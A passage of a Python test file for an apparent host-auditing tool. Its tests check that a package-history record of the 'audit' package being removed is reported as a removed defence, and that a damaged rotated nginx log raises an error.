        database.execute("CREATE TABLE trans (id INTEGER PRIMARY KEY, dt_begin INTEGER, cmdline TEXT)")
        database.execute("CREATE TABLE rpm (item_id INTEGER, name TEXT)")
        database.execute("CREATE TABLE trans_item (id INTEGER PRIMARY KEY, trans_id INTEGER, item_id INTEGER, action INTEGER)")
        database.execute("INSERT INTO trans VALUES (1, 1764340000, 'remove audit')")
        database.execute("INSERT INTO rpm VALUES (7, 'audit')")
        database.execute("INSERT INTO trans_item VALUES (1, 1, 7, 8)")
        database.commit()
    results = plain.results(check_named("activity-logs"))
    assert [one.title for one in results if isinstance(one, Finding)] == ["A defence was removed: audit"]
    assert any("command line: remove audit" in getattr(one, "message", "") for one in results)


def test_rotated_logs_that_are_damaged_are_named(plain: TreeMaker) -> None:
    plain.file("/var/log/nginx/access.log.3.gz", gzip.compress(b"x" * 1000)[:-20])
    with pytest.raises(EOFError):
        plain.findings(check_named("web-logs"))
